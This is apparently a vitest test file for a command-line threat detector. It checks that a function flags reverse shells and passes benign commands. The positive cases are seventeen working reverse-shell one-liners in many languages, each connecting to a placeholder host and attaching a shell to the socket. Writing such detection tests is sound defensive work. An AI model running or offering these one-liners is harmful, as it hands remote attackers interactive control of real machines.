// A script that joins a connection and a shell is found in each language; scripts with only one of the two are not.
import { expect, test } from 'vitest';
import { judgeLine } from '../../../../detectors/process/threats/verdict/judge.ts';

test.each([
  'python3 -c \'import socket,os,pty;s=socket.socket();s.connect(("10.9.8.7",4444));[os.dup2(s.fileno(),f)for f in(0,1,2)];pty.spawn("sh")\'',
  'python -c import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect(("c2.example",1));os.dup2(s.fileno(),0);p=subprocess.call(["/bin/sh","-i"])',
  'perl -e \'use Socket;$i="10.9.8.7";$p=1;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,">&S");open(STDOUT,">&S");exec("sh -i");};\'',
  'perl -MIO -e \'$p=fork;exit,if($p);$c=new IO::Socket::INET(PeerAddr,"10.9.8.7:1");STDIN->fdopen($c,r);$~->fdopen($c,w);system$_ while<>;\'',
  'php -r \'$sock=fsockopen("10.9.8.7",1);exec("sh <&3 >&3 2>&3");\'',
  'php -r \'$s=fsockopen("10.9.8.7",1);`bash <&3 >&3 2>&3`;\'',
  'php -r \'$s=fsockopen("10.9.8.7",1);$p=proc_open("sh",array(0=>$s,1=>$s,2=>$s),$pipes);\'',
  'ruby -rsocket -e\'spawn("sh",[:in,:out,:err]=>TCPSocket.new("10.9.8.7",1))\'',
  'ruby -rsocket -e \'c=TCPSocket.new("10.9.8.7",1);loop{c.gets.chomp!;IO.popen($_,"r"){|io|c.print io.read}}\'',
  'node -e \'s=require("child_process").spawn("/bin/sh",[]);c=require("net").connect(1,"10.9.8.7",()=>{c.pipe(s.stdin);s.stdout.pipe(c)})\'',
  "lua -e \"require('socket');t=socket.tcp();t:connect('10.9.8.7','1');os.execute('sh -i <&3 >&3 2>&3');\"",
  'lua5.3 -e \'local s=require("socket");local t=s.tcp();t:connect("10.9.8.7",1);while true do local c=t:receive();local f=io.popen(c,"r");t:send(f:read("*a")) end\'',
  'awk \'BEGIN {s="/inet/tcp/0/10.9.8.7/1";while(1){printf "> " |& s; s |& getline c; while((c |& getline)>0) print $0 |& s; close(c)}}\'',
  'echo \'package main;import"os/exec";import"net";func main(){c,_:=net.Dial("tcp","10.9.8.7:1");cmd:=exec.Command("sh");cmd.Stdin=c;cmd.Run()}\' > /tmp/t.go && go run /tmp/t.go',
  'echo \'set s [socket 10.9.8.7 1];while 1 {puts -nonewline $s "> ";flush $s;gets $s c;set e "exec $c";eval $e}\' | tclsh',
  'jrunscript -e \'var s=new java.net.Socket("10.9.8.7",1);var p=new java.lang.ProcessBuilder("/bin/sh").start();\'',
  'vim -c \':py3 import os,socket,pty;s=socket.socket();s.connect(("10.9.8.7",1));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("/bin/sh")\'',
])('%s', (line) => {
  expect(judgeLine(line)).toMatchObject({ threat: true, category: 'reverse_shells' });
});

test.each([
  'python3 -c "import socket; print(socket.gethostname())"',
  'python3 -c import subprocess;subprocess.run(["ls"])',
  'python3 -m http.server 8000 --bind 127.0.0.1',
  'perl -pe "s/socket/plug/" file.txt',
  'node server.js --listen 0.0.0.0:8080',
  "php -r 'echo phpversion();'",
  "ruby -e 'puts `date`'",
  "awk '{print $1}' access.log",
])('ordinary: %s', (line) => {
  expect(judgeLine(line).threat).toBe(false);
});
